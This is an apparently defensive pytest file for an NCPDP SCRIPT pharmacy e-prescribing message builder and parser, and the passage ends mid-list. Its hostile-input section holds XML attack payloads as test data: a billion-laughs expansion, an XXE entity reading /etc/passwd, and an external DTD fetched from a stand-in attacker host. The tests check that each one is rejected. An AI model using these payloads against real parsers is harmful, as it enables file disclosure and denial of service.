"""NCPDP SCRIPT 2017071 builders and reader (pharmacy/interop/ncpdp.py). Pure: no DB, no Django."""
from __future__ import annotations

import importlib.util
import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pharmacy.interop import ncpdp as n


@pytest.fixture(autouse=True)
def _plain_http():
    """Overrides tests/conftest.py's autouse fixture of the same name, which needs pytest-django's
    ``settings``: this module is pure and must also run with ``-p no:django``."""
    yield


SENT = datetime(2025, 3, 4, 15, 16, 17, 250000, tzinfo=UTC)

PHARMACY_PARTY = n.Party("P", "1234563")
PRESCRIBER_PARTY = n.Party("D", "1234567893")
PAYER_PARTY = n.Party("PY", "PAYER01")

TO_PRESCRIBER = n.Header(
    to=PRESCRIBER_PARTY,
    from_=PHARMACY_PARTY,
    message_id="MSG-PH-0001",
    sent_time=SENT,
    rx_reference_number="RX778899",
    prescriber_order_number="PON-42",
)
TO_PHARMACY = n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="MSG-DR-0001", sent_time=SENT,
                       prescriber_order_number="PON-42")
REPLY_TO_PHARMACY = replace(TO_PHARMACY, relates_to_message_id="MSG-PH-0001")
REPLY_TO_PRESCRIBER = replace(TO_PRESCRIBER, relates_to_message_id="MSG-DR-0001")
TO_PAYER = n.Header(to=PAYER_PARTY, from_=PHARMACY_PARTY, message_id="MSG-PA-0001", sent_time=SENT)
FROM_PAYER = n.Header(to=PHARMACY_PARTY, from_=PAYER_PARTY, message_id="MSG-PY-0001", sent_time=SENT,
                      relates_to_message_id="MSG-PA-0001")

PATIENT = n.PatientInfo(
    last_name="O'Brien & Sons", first_name="Zoë", gender="F", birth_date=date(1958, 7, 1),
    address_line1="12 Main St <Apt 3>", address_line2="Unit \"B\"", city="Springfield", state="IL",
    postal_code="62701", phone="2175550100",
)
DOG = n.PatientInfo(
    last_name="Smith", first_name="Rex", gender="M", birth_date=date(2019, 5, 5), is_animal=True,
    species="Canine", owner_last_name="Smith", owner_first_name="Jo", city="Springfield", state="IL",
    postal_code="62701",
)
PHARMACY = n.PharmacyInfo(ncpdp_id="1234563", npi="1003000126", name="Main Street Pharmacy",
                          phone="2175550199")
PRESCRIBER = n.PrescriberInfo(npi="1234567893", dea="AB1234563", state_license="036.123456",
                              last_name="Nguyen", first_name="An", phone="2175550123")
VET = n.PrescriberInfo(dea="BV1234563", state_license="VET-998", last_name="Herriot", first_name="James",
                       is_veterinarian=True)
MED = n.MedicationInfo(
    description="Lisinopril 10 MG Oral Tablet", ndc="00093711101", quantity=Decimal("90"),
    quantity_unit="C48542", days_supply=90, written_date=date(2024, 3, 1), last_fill_date=date(2025, 2, 1),
    refills=3, sig_text="Take 1 tablet by mouth once daily; BP < 140/90 & recheck", substitutions="0",
)
MED_DISPENSED = replace(MED, description="Lisinopril 10mg tab (Lupin)", ndc="68180051301",
                        quantity=Decimal("45.5"), days_supply=45)
QUESTIONS = [
    n.PAQuestion(id="Q1", text="Has the patient tried metformin for ≥ 3 months?", type="Select",
                 choices=[("Y", "Yes"), ("N", "No")]),
    n.PAQuestion(id="Q2", text="Most recent HbA1c (%)", type="Numeric"),
    n.PAQuestion(id="Q3", text="Clinical notes", type="FreeText"),
    n.PAQuestion(id="Q4", text="Date of diagnosis", type="Date"),
]

PARTIES = {"patient": PATIENT, "pharmacy": PHARMACY, "prescriber": PRESCRIBER}
PA_PARTIES = {"patient": PATIENT, "prescriber": PRESCRIBER, "medication": MED}

# (transaction, builder, kwargs, expected ScriptMessage attributes after parsing)
CASES = [
    ("NewRx", n.build_new_rx, dict(header=TO_PHARMACY, medication=MED, **PARTIES),
     dict(medication_prescribed=MED, **PARTIES)),
    ("RxRenewalRequest", n.build_rx_renewal_request,
     dict(header=TO_PRESCRIBER, medication_prescribed=MED, requested_refills=3, **PARTIES),
     dict(medication_prescribed=MED, requested_refills=3, medication_dispensed=None, **PARTIES)),
    ("RxRenewalRequest", n.build_rx_renewal_request,
     dict(header=TO_PRESCRIBER, medication_prescribed=MED, medication_dispensed=MED_DISPENSED,
          requested_refills=0, **PARTIES),
     dict(medication_prescribed=MED, medication_dispensed=MED_DISPENSED, requested_refills=0)),
    ("RxRenewalResponse", n.build_rx_renewal_response,
     dict(header=REPLY_TO_PHARMACY, response="Approved", note="OK for 1 year", medication=MED, **PARTIES),
     dict(response=n.ResponseInfo("Approved", note="OK for 1 year"), medication_prescribed=MED, **PARTIES)),
    ("RxRenewalResponse", n.build_rx_renewal_response,
     dict(header=TO_PHARMACY, relates_to_message_id="MSG-PH-0001", response="ApprovedWithChanges",
          medication=replace(MED, refills=1)),
     dict(response=n.ResponseInfo("ApprovedWithChanges"), medication_prescribed=replace(MED, refills=1))),
    ("RxRenewalResponse", n.build_rx_renewal_response,
     dict(header=REPLY_TO_PHARMACY, response="Denied", reason_codes=["AM", "AD"],
          denial_reason="Needs a visit & labs"),
     dict(response=n.ResponseInfo("Denied", ["AM", "AD"], "Needs a visit & labs"), patient=None)),
    ("RxRenewalResponse", n.build_rx_renewal_response,
     dict(header=REPLY_TO_PHARMACY, response="Replace", medication=replace(MED, sig_text="Take 2 daily")),
     dict(response=n.ResponseInfo("Replace"), medication_prescribed=replace(MED, sig_text="Take 2 daily"))),
    ("RxFill", n.build_rx_fill,
     dict(header=REPLY_TO_PRESCRIBER, fill_status="Dispensed", medication_dispensed=MED_DISPENSED, **PARTIES),
     dict(fill_status="Dispensed", medication_dispensed=MED_DISPENSED, **PARTIES)),
    ("RxFill", n.build_rx_fill,
     dict(header=REPLY_TO_PRESCRIBER, fill_status="PartiallyDispensed", medication_dispensed=MED_DISPENSED,
          medication_prescribed=MED, note="Rest on Friday"),
     dict(fill_status="PartiallyDispensed", fill_note="Rest on Friday", medication_prescribed=MED)),
    ("RxFill", n.build_rx_fill,
     dict(header=REPLY_TO_PRESCRIBER, fill_status="NotDispensed", reason_code="BP", note="Backordered"),
     dict(fill_status="NotDispensed", fill_reason_code="BP", fill_note="Backordered",
          medication_dispensed=None)),
    ("RxFill", n.build_rx_fill,
     dict(header=REPLY_TO_PRESCRIBER, fill_status="Transferred", note="To Oak St Pharmacy"),
     dict(fill_status="Transferred", fill_note="To Oak St Pharmacy")),
    ("CancelRx", n.build_cancel_rx, dict(header=TO_PHARMACY, medication=MED, note="Stopped", **PARTIES),
     dict(medication_prescribed=MED, note="Stopped", **PARTIES)),
    ("CancelRxResponse", n.build_cancel_rx_response,
     dict(header=REPLY_TO_PRESCRIBER, response="Approved", note="Cancelled before fill"),
     dict(response=n.ResponseInfo("Approved", note="Cancelled before fill"))),
    ("CancelRxResponse", n.build_cancel_rx_response,
     dict(header=REPLY_TO_PRESCRIBER, response="Denied", reason_codes=["AG"],
          denial_reason="Already picked up"),
     dict(response=n.ResponseInfo("Denied", ["AG"], "Already picked up"))),
    ("Status", n.build_status, dict(header=REPLY_TO_PHARMACY, code="010", description="Accepted"),
     dict(status_code="010", status_description="Accepted")),
    ("Status", n.build_status, dict(header=TO_PHARMACY, relates_to_message_id="X-1", code="000"),
     dict(status_code="000", status_description="")),
    ("Error", n.build_error,
     dict(header=REPLY_TO_PHARMACY, code="900", description_code="1000", description="Bad <DaysSupply>"),
     dict(error_code="900", error_description_code="1000", error_description="Bad <DaysSupply>")),
    ("Error", n.build_error, dict(header=REPLY_TO_PHARMACY, code="601"), dict(error_code="601")),
    ("PAInitiationRequest", n.build_pa_initiation_request,
     dict(header=TO_PAYER, pharmacy=PHARMACY, pa_reference_id="REF-1", **PA_PARTIES),
     dict(pa_reference_id="REF-1", medication_prescribed=MED, patient=PATIENT, pharmacy=PHARMACY)),
    ("PARequest", n.build_pa_request,
     dict(header=TO_PAYER, pa_case_id="CASE-9", answers=[("Q1", "Y"), ("Q2", "8.1"), ("Q3", "A & B < C")],
          attachments=[n.Attachment("chart.pdf", "application/pdf", b"%PDF-1.4\x00\xff")], **PA_PARTIES),
     dict(pa_case_id="CASE-9", answers=[("Q1", "Y"), ("Q2", "8.1"), ("Q3", "A & B < C")],
          attachments=[n.Attachment("chart.pdf", "application/pdf", b"%PDF-1.4\x00\xff")], question_set=[])),
    ("PAAppealRequest", n.build_pa_appeal_request,
     dict(header=TO_PAYER, pa_case_id="CASE-9", note="Failed two formulary alternatives", **PA_PARTIES),
     dict(pa_case_id="CASE-9", note="Failed two formulary alternatives")),
    ("PACancelRequest", n.build_pa_cancel_request,
     dict(header=TO_PAYER, pa_case_id="CASE-9", reason_code="PC", patient=PATIENT, prescriber=PRESCRIBER),
     dict(pa_case_id="CASE-9", reason_code="PC", medication_prescribed=None)),
    ("PAInitiationResponse", n.build_pa_initiation_response,
     dict(header=FROM_PAYER, status="Open", pa_case_id="CASE-9", question_set=QUESTIONS,
          deadline_for_reply=datetime(2025, 3, 7, 12, 0, tzinfo=UTC)),
     dict(response_status="Open", pa_case_id="CASE-9", question_set=QUESTIONS,
          deadline_for_reply=datetime(2025, 3, 7, 12, 0, tzinfo=UTC))),
    ("PAInitiationResponse", n.build_pa_initiation_response,
     dict(header=FROM_PAYER, status="Closed", reason_codes=["CF"], note="No PA needed"),
     dict(response_status="Closed", response=n.ResponseInfo("Closed", ["CF"], note="No PA needed"),
          note="No PA needed")),
    ("PAResponse", n.build_pa_response,
     dict(header=FROM_PAYER, status="Approved", pa_case_id="CASE-9", authorization_number="AUTH-123",
          effective_date=date(2025, 3, 4), expiration_date=date(2026, 3, 3)),
     dict(response_status="Approved", authorization_number="AUTH-123", effective_date=date(2025, 3, 4),
          expiration_date=date(2026, 3, 3), pa_case_id="CASE-9")),
    ("PAResponse", n.build_pa_response,
     dict(header=FROM_PAYER, status="Denied", pa_case_id="CASE-9",
          denial_reasons=["Step therapy not met", "Quantity over limit"]),
     dict(response_status="Denied", denial_reasons=["Step therapy not met", "Quantity over limit"])),
    ("PAResponse", n.build_pa_response,
     dict(header=FROM_PAYER, status="InProcess", pa_case_id="CASE-9",
          expected_response_date=date(2025, 3, 6)),
     dict(response_status="InProcess", expected_response_date=date(2025, 3, 6))),
    ("PAResponse", n.build_pa_response,
     dict(header=FROM_PAYER, status="Open", pa_case_id="CASE-9", question_set=QUESTIONS[:1],
          deadline_for_reply=date(2025, 3, 9)),
     dict(response_status="Open", question_set=QUESTIONS[:1], deadline_for_reply=date(2025, 3, 9))),
    ("PAResponse", n.build_pa_response,
     dict(header=FROM_PAYER, status="PartiallyDenied", pa_case_id="CASE-9", authorization_number="A-2",
          effective_date=date(2025, 3, 4), denial_reasons=["Quantity reduced to 30"]),
     dict(response_status="PartiallyDenied", authorization_number="A-2", expiration_date=None,
          denial_reasons=["Quantity reduced to 30"])),
    ("PAResponse", n.build_pa_response,
     dict(header=FROM_PAYER, status="Closed", pa_case_id="CASE-9", note="Member not eligible"),
     dict(response_status="Closed", note="Member not eligible")),
    ("PAAppealResponse", n.build_pa_appeal_response,
     dict(header=FROM_PAYER, status="Approved", pa_case_id="CASE-9", authorization_number="AUTH-9"),
     dict(response_status="Approved", authorization_number="AUTH-9")),
    ("PACancelResponse", n.build_pa_cancel_response,
     dict(header=FROM_PAYER, status="Approved", pa_case_id="CASE-9"),
     dict(response_status="Approved", pa_case_id="CASE-9")),
]
CASE_IDS = [f"{i:02d}-{c[0]}" for i, c in enumerate(CASES)]


def _expected_header(kwargs: dict) -> n.Header:
    header = kwargs["header"]
    if kwargs.get("relates_to_message_id"):
        header = replace(header, relates_to_message_id=kwargs["relates_to_message_id"])
    return header


@pytest.mark.parametrize(("transaction", "builder", "kwargs", "expected"), CASES, ids=CASE_IDS)
def test_builder_output_is_well_formed_with_envelope_and_header(transaction, builder, kwargs, expected):
    xml = builder(**kwargs)
    assert xml.startswith('<?xml version="1.0" encoding="UTF-8"?>')
    root = ET.fromstring(xml)  # plain, well-formed
    assert root.tag == "Message"
    assert root.attrib == {
        "DatatypesVersion": "2017071", "TransportVersion": "2017071", "TransactionDomain": "SCRIPT",
        "TransactionVersion": "2017071", "StructuresVersion": "2017071", "ECLVersion": "2017071",
    }
    header = _expected_header(kwargs)
    h = root.find("Header")
    assert [c.tag for c in h][:2] == ["To", "From"]
    assert h.find("To").get("Qualifier") == header.to.qualifier and h.findtext("To") == header.to.id
    assert h.find("From").get("Qualifier") == header.from_.qualifier
    assert h.findtext("MessageID") == header.message_id
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?Z", h.findtext("SentTime"))
    assert h.findtext("SenderSoftware/SenderSoftwareDeveloper") == "Rx Workflow Hub"
    assert h.findtext("SenderSoftware/SenderSoftwareProduct")
    assert h.findtext("SenderSoftware/SenderSoftwareVersionRelease")
    if transaction in n.RELATES_TO_REQUIRED:
        assert h.findtext("RelatesToMessageID") == header.relates_to_message_id != ""
    body = root.find("Body")
    assert [c.tag for c in body] == [transaction]


@pytest.mark.parametrize(("transaction", "builder", "kwargs", "expected"), CASES, ids=CASE_IDS)
def test_builder_round_trips_through_parse_message(transaction, builder, kwargs, expected):
    msg = n.parse_message(builder(**kwargs))
    assert msg.transaction == transaction
    assert msg.transaction_version == "2017071"
    assert msg.header == _expected_header(kwargs)
    assert msg.message_id == msg.header.message_id
    assert msg.sent_time == SENT
    for attr, value in expected.items():
        assert getattr(msg, attr) == value, attr
    assert msg.raw is not None and msg.raw.tag == "Message"


def _namespaced(xml: str, *, prefix: str = "") -> str:
    ns = "http://www.ncpdp.org/schema/SCRIPT"
    if not prefix:
        return xml.replace("<Message ", f'<Message xmlns="{ns}" ', 1)
    xml = re.sub(r"<(/?)([A-Za-z])", rf"<\1{prefix}:\2", xml)
    return xml.replace(f"<{prefix}:Message ", f'<{prefix}:Message xmlns:{prefix}="{ns}" ', 1)


@pytest.mark.parametrize("prefix", ["", "scr"])
@pytest.mark.parametrize(("transaction", "builder", "kwargs", "expected"), CASES, ids=CASE_IDS)
def test_namespaced_input_reads_the_same(transaction, builder, kwargs, expected, prefix):
    xml = builder(**kwargs)
    namespaced = _namespaced(xml, prefix=prefix)
    assert "ncpdp.org/schema/SCRIPT" in namespaced
    assert n.parse_message(namespaced) == n.parse_message(xml)
    assert n.parse_message(namespaced.encode("utf-8")) == n.parse_message(xml)


@pytest.mark.parametrize("transaction", sorted(n.RELATES_TO_REQUIRED & {c[0] for c in CASES}))
def test_relates_to_message_id_is_mandatory_on_responses(transaction):
    transaction_, builder, kwargs, _ = next(c for c in CASES if c[0] == transaction)
    bare = dict(kwargs, header=replace(kwargs["header"], relates_to_message_id=""))
    bare.pop("relates_to_message_id", None)
    with pytest.raises(ValueError, match="RelatesToMessageID"):
        builder(**bare)
    # …and an inbound one without it is rejected with 900 naming the element
    xml = re.sub(r"\s*<RelatesToMessageID>[^<]*</RelatesToMessageID>", "", builder(**kwargs))
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(xml)
    assert exc.value.code == "900" and exc.value.element == "Header/RelatesToMessageID"


@pytest.mark.parametrize(
    ("patient", "prescriber", "patient_tag", "prescriber_tag"),
    [
        (PATIENT, PRESCRIBER, "HumanPatient", "NonVeterinarian"),
        (DOG, VET, "AnimalPatient", "Veterinarian"),
    ],
    ids=["human", "veterinary"],
)
def test_human_and_veterinary_patient_and_prescriber(patient, prescriber, patient_tag, prescriber_tag):
    xml = n.build_new_rx(header=TO_PHARMACY, patient=patient, pharmacy=PHARMACY, prescriber=prescriber,
                         medication=MED)
    tx = ET.fromstring(xml).find("Body/NewRx")
    assert [c.tag for c in tx.find("Patient")] == [patient_tag]
    assert [c.tag for c in tx.find("Prescriber")] == [prescriber_tag]
    assert tx.findtext(f"Patient/{patient_tag}/Name/LastName") == patient.last_name
    assert tx.findtext(f"Patient/{patient_tag}/DateOfBirth/Date") == patient.birth_date.isoformat()
    msg = n.parse_message(xml)
    assert msg.patient == patient and msg.prescriber == prescriber
    assert msg.patient.is_animal is patient.is_animal
    assert msg.prescriber.is_veterinarian is prescriber.is_veterinarian
    if patient.is_animal:
        assert tx.findtext("Patient/AnimalPatient/Species") == "Canine"
        assert msg.patient.owner_first_name == "Jo"


def test_medication_elements_use_the_standard_names():
    tx = ET.fromstring(n.build_new_rx(header=TO_PHARMACY, medication=MED, **PARTIES)).find("Body/NewRx")
    m = tx.find("MedicationPrescribed")
    assert m.findtext("DrugDescription") == MED.description
    assert m.findtext("DrugCoded/ProductCode/Code") == "00093711101"
    assert m.findtext("DrugCoded/ProductCode/Qualifier") == "ND"
    assert m.findtext("Quantity/Value") == "90"
    assert m.findtext("Quantity/QuantityUnitOfMeasure/Code") == "C48542"
    assert m.findtext("DaysSupply") == "90"
    assert m.findtext("WrittenDate/Date") == "2024-03-01"
    assert m.findtext("LastFillDate/Date") == "2025-02-01"
    assert m.findtext("NumberOfRefills") == "3"
    assert m.findtext("Sig/SigText") == MED.sig_text
    assert tx.findtext("Pharmacy/Identification/NCPDPID") == "1234563"
    assert tx.findtext("Pharmacy/BusinessName") == "Main Street Pharmacy"
    assert tx.findtext("Prescriber/NonVeterinarian/Identification/DEANumber") == "AB1234563"
    assert tx.findtext("Patient/HumanPatient/Address/StateProvince") == "IL"
    assert tx.findtext("Patient/HumanPatient/CommunicationNumbers/PrimaryTelephone/Number") == "2175550100"


def test_renewal_request_carries_pharmacy_requested_refills():
    xml = n.build_rx_renewal_request(header=TO_PRESCRIBER, medication_prescribed=MED, requested_refills=5,
                                     **PARTIES)
    assert ET.fromstring(xml).find(".//PharmacyRequestedRefills").text == "5"
    assert n.parse_message(xml).requested_refills == 5


def test_renewal_response_structure():
    xml = n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Denied", reason_codes=["AA"])
    kind = ET.fromstring(xml).find("Body/RxRenewalResponse/Response/Denied")
    assert [c.text for c in kind.findall("ReasonCode")] == ["AA"]


# An inbound message shaped like a third-party sender's: namespace, pretty-printed, elements we do
# not model (Security, Mailbox …), a ProductCode qualifier, DateTime instead of Date.
INBOUND_RENEWAL_REQUEST = """<?xml version="1.0" encoding="UTF-8"?>
<Message xmlns="http://www.ncpdp.org/schema/SCRIPT" DatatypesVersion="2017071"
   TransportVersion="2017071" TransactionDomain="SCRIPT" TransactionVersion="2017071"
   StructuresVersion="2017071" ECLVersion="2017071">
  <Header>
    <To Qualifier="D">6666666666</To>
    <From Qualifier="P">7777777</From>
    <MessageID>  a1b2c3d4e5  </MessageID>
    <SentTime>2025-01-02T03:04:05.6789+01:00</SentTime>
    <Security><Sender><TertiaryIdentification>X</TertiaryIdentification></Sender></Security>
    <SenderSoftware>
      <SenderSoftwareDeveloper>Acme</SenderSoftwareDeveloper>
      <SenderSoftwareProduct>PharmSys</SenderSoftwareProduct>
      <SenderSoftwareVersionRelease>9</SenderSoftwareVersionRelease>
    </SenderSoftware>
    <Mailbox><DeliveredID>1</DeliveredID></Mailbox>
    <RxReferenceNumber>RX-5</RxReferenceNumber>
  </Header>
  <Body>
    <RxRenewalRequest>
      <Patient>
        <HumanPatient>
          <Name>
            <LastName>
              Doe
            </LastName>
            <FirstName>Jane</FirstName>
          </Name>
          <Gender>F</Gender>
          <DateOfBirth><DateTime>1970-02-03T00:00:00Z</DateTime></DateOfBirth>
        </HumanPatient>
      </Patient>
      <Pharmacy><Identification><NCPDPID>7777777</NCPDPID></Identification></Pharmacy>
      <Prescriber><NonVeterinarian><Identification><NPI>6666666666</NPI></Identification>
        </NonVeterinarian></Prescriber>
      <MedicationDispensed>
        <DrugDescription>Atorvastatin 20 MG Oral Tablet</DrugDescription>
        <DrugCoded><ProductCode><Code>00000000000</Code><Qualifier>NH</Qualifier></ProductCode>
          <ProductCode><Code>00071015523</Code><Qualifier>ND</Qualifier></ProductCode></DrugCoded>
        <Quantity><Value>30</Value><CodeListQualifier>38</CodeListQualifier></Quantity>
        <DaysSupply>30</DaysSupply>
        <PharmacyRequestedRefills>2</PharmacyRequestedRefills>
      </MedicationDispensed>
      <MedicationPrescribed><DrugDescription>Atorvastatin 20 MG</DrugDescription></MedicationPrescribed>
    </RxRenewalRequest>
  </Body>
</Message>
"""


def test_third_party_shaped_message_reads():
    msg = n.parse_message(INBOUND_RENEWAL_REQUEST)
    assert msg.transaction == "RxRenewalRequest"
    assert msg.message_id == "a1b2c3d4e5"
    assert msg.sent_time == datetime(2025, 1, 2, 2, 4, 5, 678000, tzinfo=UTC)
    assert msg.to == n.Party("D", "6666666666") and msg.from_ == n.Party("P", "7777777")
    assert msg.header.sender_software == n.SenderSoftware("Acme", "PharmSys", "9")
    assert msg.rx_reference_number == "RX-5"
    assert msg.patient.last_name == "Doe" and msg.patient.birth_date == date(1970, 2, 3)
    assert msg.medication_dispensed.ndc == "00071015523"
    assert msg.medication_dispensed.quantity == Decimal("30")
    assert msg.requested_refills == 2
    assert msg.medication_prescribed.description == "Atorvastatin 20 MG"


def test_reply_header_swaps_parties_and_relates():
    received = n.parse_message(INBOUND_RENEWAL_REQUEST)
    h = n.reply_header(received, message_id="R-1", sent_time=SENT)
    assert (h.to, h.from_) == (received.from_, received.to)
    assert h.relates_to_message_id == "a1b2c3d4e5" and h.rx_reference_number == "RX-5"
    xml = n.build_rx_renewal_response(header=h, response="Denied", reason_codes=["AF"])
    assert n.parse_message(xml).relates_to_message_id == "a1b2c3d4e5"
    assert len(n.new_message_id()) <= 35


# ---- hostile / invalid input --------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Message><Header><MessageID>&lol4;</MessageID></Header><Body><Status/></Body></Message>"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Message><Header><MessageID>&xxe;</MessageID></Header><Body><NewRx/></Body></Message>"""
PARAM_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]><Message/>"""
DOCTYPE_ONLY = '<?xml version="1.0"?><!DOCTYPE Message SYSTEM "script.dtd"><Message/>'

GOOD_STATUS = n.build_status(header=REPLY_TO_PHARMACY, code="010")
GOOD_NEWRX = n.build_new_rx(header=TO_PHARMACY, medication=MED, **PARTIES)


def _header_edit(xml: str, pattern: str, repl: str) -> str:
    edited, count = re.subn(pattern, repl, xml, count=1)
    assert count == 1, pattern
    return edited


@pytest.mark.parametrize(
    ("payload", "code", "element"),
    [
        (BILLION_LAUGHS, "900", "DOCTYPE"),
        (BILLION_LAUGHS.encode(), "900", "DOCTYPE"),
        (XXE, "900", "DOCTYPE"),
        (PARAM_ENTITY, "900", "DOCTYPE"),
        (DOCTYPE_ONLY, "900", "DOCTYPE"),
        ("", "900", "Message"),
        ("this is not XML", "900", "Message"),
        (b"\xff\xfe\x00garbage", "900", "Message"),
        ("<Message><Header>", "900", "Message"),
        ('{"resourceType": "Bundle"}', "900", "Message"),
        ("<ClinicalDocument/>", "900", "ClinicalDocument"),
        ("<ns:Foo xmlns:ns='urn:x'/>", "900", "Foo"),
        ("<Message><Body><Status/></Body></Message>", "900", "Header"),
        ("<Message><Header/></Message>", "900", "Body"),
        ("<Message><Header/><Body/></Message>", "900", "Body"),
        ("<Message><Header/><Body><Status/><Status/></Body></Message>", "900", "Body"),
        ("<Message><Header/><Body><RxBogus/></Body></Message>", "601", "Body/RxBogus"),
        ("<Message><Header/><Body><REFREQ/></Body></Message>", "601", "Body/REFREQ"),
        (_header_edit(GOOD_STATUS, r"<MessageID>[^<]*</MessageID>", ""), "900", "Header/MessageID"),
        (_header_edit(GOOD_STATUS, r"<MessageID>[^<]*</MessageID>", "<MessageID> </MessageID>"),
         "900", "Header/MessageID"),
        (_header_edit(GOOD_STATUS, r"<MessageID>[^<]*</MessageID>", f"<MessageID>{'x' * 36}</MessageID>"),
         "900", "Header/MessageID"),
        (_header_edit(GOOD_STATUS, r"<SentTime>[^<]*</SentTime>", ""), "900", "Header/SentTime"),
        (_header_edit(GOOD_STATUS, r"<SentTime>[^<]*</SentTime>", "<SentTime>yesterday</SentTime>"),
         "900", "Header/SentTime"),
        (_header_edit(GOOD_STATUS, r"<SentTime>[^<]*</SentTime>",
                      "<SentTime>2025-02-30T00:00:00Z</SentTime>"),
         "900", "Header/SentTime"),
        (_header_edit(GOOD_STATUS, r'<To Qualifier="P">', '<To Qualifier="XX">'),
         "900", "Header/To/@Qualifier"),
        (_header_edit(GOOD_STATUS, r'<From Qualifier="D">[^<]*</From>', ""), "900", "Header/From"),
        (_header_edit(GOOD_STATUS, r"<Code>010</Code>", ""), "900", "Body/Status/Code"),
        (_header_edit(GOOD_NEWRX, r"<DaysSupply>90</DaysSupply>", "<DaysSupply>ninety</DaysSupply>"),
         "900", "Body/NewRx/MedicationPrescribed/DaysSupply"),
        (_header_edit(GOOD_NEWRX, r"<Value>90</Value>", "<Value>lots</Value>"),
         "900", "Body/NewRx/MedicationPrescribed/Quantity/Value"),
        (_header_edit(GOOD_NEWRX, r"<Date>2024-03-01</Date>", "<Date>03/01/2024</Date>"),
         "900", "Body/NewRx/MedicationPrescribed/WrittenDate/Date"),
        (_header_edit(GOOD_NEWRX, r"<Gender>F</Gender>", "<Gender>X</Gender>"),
         "900", "Body/NewRx/Patient/HumanPatient/Gender"),
        (_header_edit(GOOD_NEWRX, r"HumanPatient", "Person").replace("/HumanPatient", "/Person"),
         "900", "Body/NewRx/Patient"),
        (_header_edit(n.build_rx_fill(header=REPLY_TO_PRESCRIBER, fill_status="Transferred"),
                      r"<Transferred />|<Transferred/>", "<Lost />"), "900", "Body/RxFill/FillStatus"),
        (_header_edit(n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Approved"),
                      r"<Approved />|<Approved/>", "<Maybe />"),
         "900", "Body/RxRenewalResponse/Response/Maybe"),
        (_header_edit(n.build_pa_response(header=FROM_PAYER, status="Closed", pa_case_id="C"),
                      r"(?s)<Response>.*</Response>", ""), "900", "Body/PAResponse/Response"),
    ],
)
def test_hostile_or_invalid_input_raises_script_error(payload, code, element):
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(payload)
    assert exc.value.code == code
    assert exc.value.element == element
    assert element in exc.value.description and element in str(exc.value)
    assert code in n.ERROR_CODES


def test_oversize_is_refused_before_parsing():
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(GOOD_NEWRX, max_bytes=1_000)
    assert exc.value.code == "601" and exc.value.element == "Message"
    big = "<Message>" + "x" * 1_000_001 + "</Message>"
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(big)
    assert exc.value.code == "601"
    # multibyte characters count as bytes
    with pytest.raises(n.ScriptError):
        n.parse_message(GOOD_NEWRX.replace("Zoë", "Zoë" * 400), max_bytes=len(GOOD_NEWRX) + 400)
    assert n.parse_message(GOOD_NEWRX, max_bytes=len(GOOD_NEWRX.encode())).transaction == "NewRx"


def test_error_reply_for_a_script_error():
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message("<Foo/>")
    xml = n.build_error_for(exc.value, header=REPLY_TO_PHARMACY)
    msg = n.parse_message(xml)
    assert msg.error_code == "900" and "Foo" in msg.error_description


# ---- builder-side validation ----------------------------------------------------------------


@pytest.mark.parametrize(
    "make",
    [
        lambda: n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id=""),
        lambda: n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="x" * 36),
        lambda: n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="M",
                         relates_to_message_id="r" * 36),
        lambda: n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="M",
                         sent_time=datetime(2025, 1, 1)),
        lambda: n.Party("Q", "1"),
        lambda: n.Party("P", " "),
        lambda: n.PatientInfo(last_name="Doe", gender="X"),
        lambda: n.PatientInfo(last_name="Doe", species="Canine"),
        lambda: n.MedicationInfo(description="x", quantity=Decimal("-1")),
        lambda: n.MedicationInfo(description="x", quantity=Decimal("NaN")),
        lambda: n.MedicationInfo(description="x", days_supply=-3),
        lambda: n.MedicationInfo(description="x", refills=True),
        lambda: n.PAQuestion(id="1", text="?", type="Essay"),
        lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Denied"),
        lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Denied", reason_codes=["ZZ"]),
        lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Denied",
                                            reason_codes=["AA"] * 11),
        lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Approved",
                                            reason_codes=["AA"]),
        lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Replace"),
        lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="ApprovedWithChanges",
                                            medication=replace(MED, refills=None)),
        lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Maybe"),
        lambda: n.build_rx_renewal_request(header=TO_PRESCRIBER, medication_prescribed=MED,
                                           requested_refills=-1, **PARTIES),
        lambda: n.build_rx_fill(header=REPLY_TO_PRESCRIBER, fill_status="Dispensed"),
        lambda: n.build_rx_fill(header=REPLY_TO_PRESCRIBER, fill_status="Lost"),
        lambda: n.build_cancel_rx_response(header=REPLY_TO_PRESCRIBER, response="Approved",
                                           reason_codes=["AA"]),
